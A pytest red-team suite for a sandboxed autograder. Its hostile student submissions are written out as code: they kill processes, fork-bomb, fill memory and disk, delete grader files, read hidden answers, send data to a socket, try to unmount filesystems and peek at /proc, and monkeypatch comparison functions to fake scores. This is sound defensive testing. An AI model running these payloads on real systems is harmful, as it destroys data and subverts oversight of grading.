"""Hostile submissions, one per attack class, graded in one batch with honest students.

Each attacker is the reference solution with an attack appended: at import, or
wrapped around one function. A contained attack costs the attacker only the
checks that call the attacked function; honest students in the same batch get
exactly the scores they get alone; the grader's files, other students' files and
the outputs are intact; nothing the attackers started is still running.

The same file runs in each mode the grader supports; the mode is simply this
process's privileges (.ci/run runs it as root, as a normal user, and as root
without CAP_SYS_ADMIN). Each test asserts what every mode guarantees; where a
mode cannot give something, the report header must not claim it, and the test
says so in its skip.
"""
from __future__ import annotations

import fcntl
import json
import os
import re
import shutil
import socket
import threading
import time
from pathlib import Path

import pytest

from conftest import ROOT, failing, solution_source, stub_source
from grader import api
from grader.registry import get_assignment
from grader.runner import UID_BASE
from grader.sandbox import LEASE_DIR

A = "two_layer_net"
ASSIGNMENT = get_assignment(A, ROOT)
FULL = ASSIGNMENT.max_score - sum(c.points for c in ASSIGNMENT.checks if c.requires == "cuda")


def uses(*names: str) -> set[str]:
    """The checks that call any of these student names (what an attack on them may cost)."""
    return {c.name for c in ASSIGNMENT.checks if set(c.uses) & set(names) and c.requires != "cuda"}


def wrap(target: str, attack: str) -> str:
    """Code that replaces ``target`` (a function or Class.method) with the attack."""
    owner, _, name = target.rpartition(".")
    where = owner or "globals()"
    setter = f"setattr({owner}, {name!r}, _attacked)" if owner else f"globals()[{name!r}] = _attacked"
    body = "\n".join("    " + line for line in attack.strip().splitlines())
    return f"\n\ndef _attacked(*args, **kwargs):\n{body}\n{setter}\n" if where else ""


# name -> (code appended to the solution, the checks it may lose)
ATTACKS = {
    "kill_parent": (wrap("nn_predict", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
                    uses("nn_predict")),
    "kill_everyone": (wrap("nn_predict", "import os, signal\nos.kill(-1, signal.SIGKILL)"), uses("nn_predict")),
    "exit_at_import": ("\nimport os\nos._exit(0)\n", "all"),
    "sys_exit_in_function": (wrap("sample_batch", "import sys\nsys.exit(3)"), uses("sample_batch")),
    "spin_forever": (wrap("TwoLayerNet.save", "while True:\n    pass"), {"twolayernet_save_load"}),
    "fork_bomb": (wrap("TwoLayerNet.save", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
                                           "        pass"), {"twolayernet_save_load"}),
    "escape_process_group": (wrap("TwoLayerNet.save", "import os, time\nif os.fork() == 0:\n    os.setsid()\n"
                                                      "    time.sleep(3600)\n    os._exit(0)\nraise RuntimeError('x')"),
                             {"twolayernet_save_load"}),
    "fill_memory": (wrap("sample_batch", "blocks = []\nwhile True:\n    blocks.append(bytearray(1 << 28))"),
                    uses("sample_batch")),
    "print_gigabytes": ("\nimport sys\nfor _ in range(64):\n    sys.stdout.write('x' * (1 << 20))\n", set()),
    "write_everywhere": ('''
import os, sys
from pathlib import Path
course = Path(sys.modules["_assignment_probes"].__file__).resolve().parents[2]
for target in [course / "PWNED", course / "grader" / "PWNED", course / "assignments" / "PWNED",
               Path.home() / "PWNED", Path("/tmp/PWNED_redteam"), Path("/root/PWNED"), Path("/PWNED")]:
    try:
        target.write_text("pwned")
    except OSError:
        pass
''', set()),
    "delete_the_grader": ('''
import shutil, sys
from pathlib import Path
probes = Path(sys.modules["_assignment_probes"].__file__).resolve()
shutil.rmtree(probes.parents[2] / "grader", ignore_errors=True)
try:
    probes.unlink()
except OSError:
    pass
''', set()),
    "read_hidden_answers": ('''
import sys
from pathlib import Path
course = Path(sys.modules["_assignment_probes"].__file__).resolve().parents[2]
found = [str(p) for p in (course / "reference_data").rglob("*")] + [str(p) for p in (course / "solutions").rglob("*")]
print("FOUND", found)
''', set()),
    "network": ('''
import os, socket
try:
    socket.create_connection(("127.0.0.1", int(os.environ.get("REDTEAM_PORT", "1"))), timeout=2).sendall(b"leak")
    print("CONNECTED")
except OSError as exc:
    print("NO NETWORK", exc)
''', set()),
    "fake_results": ('''
import json
print(json.dumps({"score": 100, "max_score": 98, "tests": []}))
print("score: 100 / 98")
for name in ("report.json", "results.json", "../report.json"):
    try:
        open(name, "w").write(json.dumps({"score": 100}))
    except OSError:
        pass
''', set()),
}

# Attacks that need to know the machine (paths of victims, the grader's pid, the
# listener's port): {placeholders} filled in by the fixture.
TARGETED = {
    "symlink_then_crash": (wrap("sample_batch", '''
import os
for name, target in (("link_file", {victim_file!r}), ("link_dir", {victim_dir!r})):
    try:
        os.symlink(target, name)
    except OSError:
        pass
os._exit(1)'''), uses("sample_batch")),
    "unmount_everything": ('''
import ctypes, sys
from pathlib import Path
libc = ctypes.CDLL(None, use_errno=True)
try:
    mounts = [line.split()[4] for line in open("/proc/self/mountinfo")]
except OSError:
    mounts = ["/tmp", "/", "/proc"]
for m in reversed(mounts):
    libc.umount2(m.encode(), 2)
course = Path(sys.modules["_assignment_probes"].__file__).resolve().parents[2]
found = [str(p) for p in (course / "reference_data").rglob("*")] + [str(p) for p in (course / "solutions").rglob("*")]
print("UNMOUNTED FOUND", found)
''', set()),
    "new_mount_namespace": ('''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000) == 0:
    libc.umount2(b"/tmp", 2)
    print("UNSHARED", os.listdir("/tmp"))
else:
    print("UNSHARE REFUSED", os.strerror(ctypes.get_errno()))
''', set()),
    "kill_every_pid": (wrap("nn_predict", '''
import os, signal
for pid in range(2, 1 << 15):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass'''), uses("nn_predict")),
    "kill_the_grader": (wrap("nn_predict", '''
import os, signal
targets = [{grader_pid}]
for entry in os.listdir("/proc"):
    try:
        if entry.isdigit() and b"grader.sandbox.zygote" in open(f"/proc/{{entry}}/cmdline", "rb").read():
            targets.append(int(entry))
    except OSError:
        pass
for pid in targets:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass'''), uses("nn_predict")),
    "double_fork_survivor": (wrap("TwoLayerNet.save", '''
import ctypes, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"bpgsurvivor", 0, 0, 0)
        time.sleep(3600)
    os._exit(0)
raise RuntimeError("x")'''), {"twolayernet_save_load"}),
    "other_course_copy": ('''
try:
    print("COPY READ", open({course_copy!r}).read()[:40])
except OSError as exc:
    print("COPY HIDDEN", exc)
''', set()),
    "peek_at_the_grader": ('''
for what in ("environ", "cmdline", "mem"):
    try:
        print("PEEK", what, len(open("/proc/{grader_pid}/" + what, "rb").read(64)))
    except OSError as exc:
        print("PEEK REFUSED", what, type(exc).__name__)
''', set()),
    "network_by_port": ('''
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak")
    print("CONNECTED")
except OSError as exc:
    print("NO NETWORK", exc)
''', set()),
    "forked_helpers_memory": ('''
import os, select, time
kids = {{}}
for _ in range(10):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(200 << 20)
            for i in range(0, len(block), 4096):
                block[i] = 1
            os.write(w, b"1")
        except MemoryError:
            os._exit(1)
        time.sleep(30)
        os._exit(0)
    os.close(w)
    kids[pid] = r
time.sleep(4)
holding = 0
for pid, r in kids.items():
    touched = bool(select.select([r], [], [], 0)[0]) and os.read(r, 1) == b"1"
    alive = os.waitpid(pid, os.WNOHANG) == (0, 0)
    holding += touched and alive
    try:
        os.kill(pid, 9)
    except OSError:
        pass
print("HOLDING", holding, "of 10 helpers with 200 MiB each")
''', "any"),
    "many_big_files": ('''
import os
written = 0
for folder in (".", "/tmp", "/dev/shm"):
    for i in range(16):
        try:
            with open(os.path.join(folder, f"big{{i}}"), "wb") as f:
                for _ in range(64):
                    f.write(b"x" * (1 << 20))
                    written += 1
        except OSError:
            pass
print("WROTE MiB", written)
''', {"twolayernet_save_load"}),  # its own full disk: saving the model there fails
}

# Attackers whose honest part is wrong: tampering must not buy points.
TAMPERERS = {
    "monkeypatch_everything": (stub_source(A) + '''
import builtins, numpy, torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
builtins.abs = lambda x: 0
def nn_forward_pass(params, X):
    z = torch.zeros(X.shape[0], params["W2"].shape[1], dtype=X.dtype)
    return z, z
''', uses("nn_forward_pass")),
    "tensor_subclass": (stub_source(A) + '''
class Liar(torch.Tensor):
    def __eq__(self, other):
        return True
    def numpy(self, *a, **k):
        raise RuntimeError("no")
def nn_forward_pass(params, X):
    z = torch.zeros(X.shape[0], params["W2"].shape[1], dtype=X.dtype).as_subclass(Liar)
    return z, z
''', uses("nn_forward_pass")),
    "odd_objects": (stub_source(A) + '''
class Anything:
    def __getattr__(self, name):
        return self
    def __call__(self, *a, **k):
        return self
def nn_forward_pass(params, X):
    return Anything(), (x for x in range(3))
''', uses("nn_forward_pass")),
}


def _orphaned_child_processes() -> list[tuple[str, int]]:
    """Processes left behind: the double-forked survivor (by its name, in every mode)
    and, as root, anything under a child uid whose lease no grader holds (graders
    running beside this test hold leases for their own live children). Zombies
    already being reaped are not survivors."""
    orphans = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = open(f"/proc/{entry}/status").read()
        except OSError:
            continue
        if re.search(r"^State:\s+[ZX]", status, re.M):
            continue
        if re.search(r"^Name:\s+bpgsurvivor$", status, re.M):
            orphans.append((entry, -1))
            continue
        uid = int(re.search(r"^Uid:\s+(\d+)", status, re.M).group(1))
        if uid <= UID_BASE or os.geteuid() != 0:   # children have uids of their own only as root
            continue
        fd = os.open(LEASE_DIR / str(uid), os.O_CREAT | os.O_RDWR, 0o600)
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            orphans.append((entry, uid))
        except BlockingIOError:
            pass
        finally:
            os.close(fd)
    return orphans


def _stat(path: Path) -> tuple:
    st = path.stat()
    body = sorted(os.listdir(path)) if path.is_dir() else path.read_bytes()
    return st.st_uid, st.st_gid, st.st_mode, body


@pytest.fixture(scope="module")
def redteam_batch(tmp_path_factory):
    course = tmp_path_factory.mktemp("course")
    for part in ("assignments", "solutions", "reference_data"):
        shutil.copytree(ROOT / part / A, course / part / A)
    shutil.copytree(ROOT / "grader", course / "grader")   # a decoy the attackers can find and try to delete
    before = {str(p): p.read_bytes() for p in course.rglob("*") if p.is_file()}
    klass = tmp_path_factory.mktemp("class")
    honest = {"honest_solution": solution_source(A), "honest_carol": (ROOT / "assignments" / A / "demo_class" /
                                                                      "carol.py").read_text()}
    for name, src in honest.items():
        (klass / f"{name}.py").write_text(src)
    for name, (code, _) in ATTACKS.items():
        (klass / f"{name}.py").write_text(solution_source(A) + code)
    for name, (src, _) in TAMPERERS.items():
        (klass / f"{name}.py").write_text(src)

    # Victims only the grader's user may touch, and another copy of the course
    # elsewhere on the disk, readable by everyone.
    victims = tmp_path_factory.mktemp("victims")
    (victims / "file").write_text("the grader's own")
    (victims / "file").chmod(0o600)
    (victims / "dir").mkdir(mode=0o700)
    copy = tmp_path_factory.mktemp("elsewhere") / "course_copy" / "solutions" / A
    copy.mkdir(parents=True)
    (copy / f"{A}.py").write_text(solution_source(A))
    for p in [copy, *copy.parents][:4]:
        p.chmod(0o755)
    (copy / f"{A}.py").chmod(0o644)
    victims_before = {p: _stat(p) for p in (victims / "file", victims / "dir")}

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.2)
    connections = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept())
            except OSError:
                pass

    threading.Thread(target=accept, daemon=True).start()
    fill = {"victim_file": str(victims / "file"), "victim_dir": str(victims / "dir"), "grader_pid": os.getpid(),
            "course_copy": str(copy / f"{A}.py"), "port": listener.getsockname()[1]}
    for name, (code, _) in TARGETED.items():
        (klass / f"{name}.py").write_text(solution_source(A) + code.format(**fill))
    out = tmp_path_factory.mktemp("out")
    try:
        result = api.batch(klass, A, out, root=course, workers=2, max_check_timeout_s=4, memory_bytes=3 << 29)
    finally:
        stop.set()
        listener.close()
    alone = {name: api.grade(klass / f"{name}.py", A, root=course) for name in honest}
    time.sleep(0.5)   # let the last killed processes finish exiting
    return {"result": result, "reports": {r.student: r for r in result.reports}, "course": course,
            "before": before, "out": out, "connections": connections, "alone": alone,
            "victims_before": victims_before, "victims_after": {p: _stat(p) for p in victims_before}}


def test_batch_finishes_with_every_student(redteam_batch):
    expected = {"honest_solution", "honest_carol", *ATTACKS, *TAMPERERS, *TARGETED}
    assert set(redteam_batch["reports"]) == expected


def test_honest_students_graded_exactly_as_alone(redteam_batch):
    for name, alone in redteam_batch["alone"].items():
        inbatch = redteam_batch["reports"][name]
        assert [(c.name, c.status, c.score) for c in inbatch.checks] == \
               [(c.name, c.status, c.score) for c in alone.checks]
    assert redteam_batch["reports"]["honest_solution"].score == FULL


@pytest.mark.parametrize("name", sorted({*ATTACKS, *TARGETED}))
def test_attack_costs_only_what_its_honest_part_loses(redteam_batch, name):
    report = redteam_batch["reports"][name]
    allowed = {**ATTACKS, **TARGETED}[name][1]
    if allowed == "any":
        return  # its honest part may be killed with the helpers it forked; the other tests judge its effects
    if allowed == "all":
        assert report.score == 0 and report.problem
        return
    attacked = allowed
    if report.integrity:  # flagged: the checks that measure inside the child are not credited
        allowed = allowed | {c.name for c in ASSIGNMENT.checks if c.measures}
    lost = set(failing(report))
    assert lost <= allowed, f"{name} lost checks it should not: {lost - allowed}"
    assert report.score >= FULL - sum(ASSIGNMENT.check(n).points for n in allowed)
    if attacked and name in ATTACKS:  # (a targeted attack may also cost nothing, e.g. a disk that is not full)
        assert lost, f"{name}: the attacked checks passed"


@pytest.mark.parametrize("name", sorted(TAMPERERS))
def test_tampering_buys_no_points(redteam_batch, name):
    report = redteam_batch["reports"][name]
    assert report.score == 0
    assert set(failing(report)) >= TAMPERERS[name][1]


def test_files_outside_the_scratch_folder_are_intact(redteam_batch):
    course = redteam_batch["course"]
    after = {str(p): p.read_bytes() for p in course.rglob("*") if p.is_file()}
    assert after == redteam_batch["before"]
    for p in (Path.home() / "PWNED", Path("/tmp/PWNED_redteam"), Path("/root/PWNED"), Path("/PWNED")):
        assert not os.path.lexists(p)  # (False where we may not look: as a normal user, /root)


def test_hidden_answers_unreadable_and_no_network(redteam_batch):
    reports = redteam_batch["reports"]
    assert "FOUND []" in reports["read_hidden_answers"].output
    assert "NO NETWORK" in reports["network"].output
    assert "NO NETWORK" in reports["network_by_port"].output
    assert redteam_batch["connections"] == []


def test_links_planted_before_a_crash_are_never_followed(redteam_batch):
    assert redteam_batch["victims_after"] == redteam_batch["victims_before"]


def test_confinement_cannot_be_undone(redteam_batch):
    reports = redteam_batch["reports"]
    assert "UNMOUNTED FOUND []" in reports["unmount_everything"].output
    assert "UNSHARE REFUSED" in reports["new_mount_namespace"].output


def test_other_copies_of_the_course_and_the_grader_process_are_out_of_reach(redteam_batch):
    reports = redteam_batch["reports"]
    assert "COPY HIDDEN" in reports["other_course_copy"].output
    peek = reports["peek_at_the_grader"].output
    assert "PEEK REFUSED environ" in peek and "PEEK REFUSED mem" in peek


def _claims(report, word: str) -> bool:
    return any(word in p for p in report.protections)


def test_memory_counts_for_the_whole_process_tree(redteam_batch):
    report = redteam_batch["reports"]["forked_helpers_memory"]
    if not _claims(report, "cgroup v"):
        assert any("no cgroup" in p for p in report.protections)  # and the header says so
        pytest.skip("no cgroup can be made in this mode (no delegated cgroup for this user): limits are per process")
    # 10 x 200 MiB > the 1.5 GiB limit of the batch: the cgroup's OOM killer must have
    # ended some (without a cgroup all 10 hold their memory at once).
    holding = int(re.search(r"HOLDING (\d+) of 10", report.output).group(1))
    assert holding * 200 <= 1536


def test_disk_is_bounded_by_the_scratch_tmpfs(redteam_batch):
    report = redteam_batch["reports"]["many_big_files"]
    if not _claims(report, "scratch: a fresh"):
        pytest.skip("no private scratch tmpfs in this mode (no mount namespace): only RLIMIT_FSIZE per file")
    written = int(re.search(r"WROTE MiB (\d+)", report.output).group(1))
    assert written <= 256 + 64 + 64 + 3


def test_header_lists_the_core_protections_of_this_mode(redteam_batch):
    protections = redteam_batch["reports"]["honest_solution"].protections
    for word in ("Landlock", "seccomp", "no capabilities", "rlimits"):
        assert any(word in p for p in protections), f"{word} missing from {protections}"
    if os.geteuid() == 0:
        # As root a child gets a uid of its own, except where it could then not read
        # Python: no private root, and Python installed where others cannot read it.
        import sysconfig

        from grader.sandbox.limits import readable_by_others

        private = any(p.startswith("private root") for p in protections)
        if private or readable_by_others(sysconfig.get_paths()["stdlib"]):
            assert any(p.startswith("unprivileged user") for p in protections)


def test_printing_is_capped_and_never_parsed(redteam_batch):
    flood = redteam_batch["reports"]["print_gigabytes"]
    assert flood.score == FULL and "more bytes of output dropped" in flood.output
    assert len(flood.output) < 2 << 20
    fake = redteam_batch["reports"]["fake_results"]
    assert fake.score == FULL  # its own honest score, not the 100 it printed
    saved = json.loads((redteam_batch["out"] / "fake_results" / "report.json").read_text())
    assert saved["score"] == FULL


def test_process_limits_and_kills_are_reported(redteam_batch):
    reports = redteam_batch["reports"]
    assert reports["spin_forever"].checks[[c.name for c in reports["spin_forever"].checks]
                                           .index("twolayernet_save_load")].status == "timeout"
    assert "exited with code" in (reports["exit_at_import"].problem or "")
    assert any(c.status == "error" for c in reports["fill_memory"].checks)


def test_nothing_the_students_started_is_still_running(redteam_batch):
    assert _orphaned_child_processes() == []
